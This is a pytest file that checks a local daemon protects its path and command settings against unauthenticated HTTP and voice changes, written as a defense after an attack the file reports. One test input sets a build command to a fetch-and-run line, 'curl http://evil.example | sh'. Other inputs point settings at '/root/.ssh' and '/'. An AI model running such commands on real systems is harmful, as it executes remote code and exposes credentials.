"""The path rule where a path is used: settings that name a file or directory the daemon opens
(selectit_model, selectit_fallback_model, selectit_rp_file, elo_models_file, cobol_repo,
marat_start_dir) and one that names a command (cobol_build_command) are protected: over HTTP,
or spoken to knob, they change only with the daemon's token; the CLI always can."""

from __future__ import annotations

import os
import re
import subprocess
import sys

import pytest

from tests.daemons import ROOT

TOKEN = "paths-token-0123456789"
PATH_SETTINGS = [
    "selectit_model",
    "selectit_fallback_model",
    "selectit_rp_file",
    "elo_models_file",
    "cobol_repo",
    "cobol_build_command",
    "marat_start_dir",
    "lm_score_endpoint",
    "openai_chat_endpoint",
    "allowed_origins",
]


def test_every_setting_that_names_a_path_is_protected():
    from daemon.core.registry import collect
    from daemon.plugins import get_plugin_manager

    specs = collect(get_plugin_manager()).specs
    assert not [n for n in PATH_SETTINGS if not specs[n].protected]
    # Any other str setting whose name or help speaks of a file, directory or path is too.
    words = re.compile(r"\b(file|dir|directory|path|repo|repository|command)\b", re.I)
    suspicious = [
        s.name
        for s in specs.values()
        if s.type == "str"
        and words.search(s.name.replace("_", " ") + " " + s.help)
        and s.name != "elo_judge_model"  # a name *in* the models file, not a path
    ]
    assert suspicious and not [n for n in suspicious if not specs[n].protected]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("selectit_model", "/etc"),
        ("selectit_fallback_model", "/root/.ssh"),
        ("cobol_repo", "/"),
        ("cobol_build_command", "curl http://evil.example | sh"),
    ],
)
def test_protected_over_http_and_knob_without_the_token(make_client, name, value):
    client = make_client(token=TOKEN)
    before = client.get(f"/settings/{name}").json()["value"]
    r = client.put(f"/settings/{name}", content=value)
    assert r.status_code == 403
    assert r.json()["error"].startswith(f"The setting {name} is protected: change it with")
    spoken = name.replace("_", " ")
    r = client.post("/v1", content=f"knob set {spoken} to {value}")
    assert r.status_code == 403 and r.text.startswith(f"The setting {name} is protected")
    assert client.get(f"/settings/{name}").json()["value"] == before
    # With the token (lmd say sends it), the owner may.
    r = client.put(f"/settings/{name}", content=value, headers={"Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 200 and r.json()["value"] == value


def test_selectit_never_loads_a_model_from_outside_home_over_http(make_client, tmp_path):
    """The reported attack: PUT selectit_model to a directory, then POST /selectit."""
    client = make_client(token=TOKEN)
    mine = {"Authorization": f"Bearer {TOKEN}"}
    assert client.put("/settings/selectit_model", content=str(tmp_path)).status_code == 403
    # which model rates is the user's alone (issue 37): the setting and the request's option
    assert client.put("/settings/selectit_backend", content="transformers").status_code == 403
    r = client.put("/settings/selectit_backend", content="transformers", headers=mine)
    assert r.status_code == 200, r.text
    record = {"instruction": "Add 2 and 2.", "output": "4"}
    r = client.post("/selectit", json={"record": record, "model": str(tmp_path)})
    assert r.status_code == 403
    assert r.json()["error"].startswith('The option "model" picks the model that rates')
    # with the token, a path still lies in the daemon's files folder or nowhere
    r = client.post("/selectit", json={"record": record, "model": str(tmp_path)}, headers=mine)
    assert r.status_code == 403
    assert r.json()["error"].startswith("Over HTTP the model directory must be a file in ")
    assert "selectit_rater" not in repr(client.app.daemon.state)  # nothing was loaded


def test_the_cli_may_set_them(home):
    done = subprocess.run(
        [sys.executable, "-m", "daemon.cli", "settings", "set", "selectit_model", "/opt/models/x"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "LMD_HOME": str(home)},
    )
    assert done.returncode == 0 and "/opt/models/x" in done.stdout
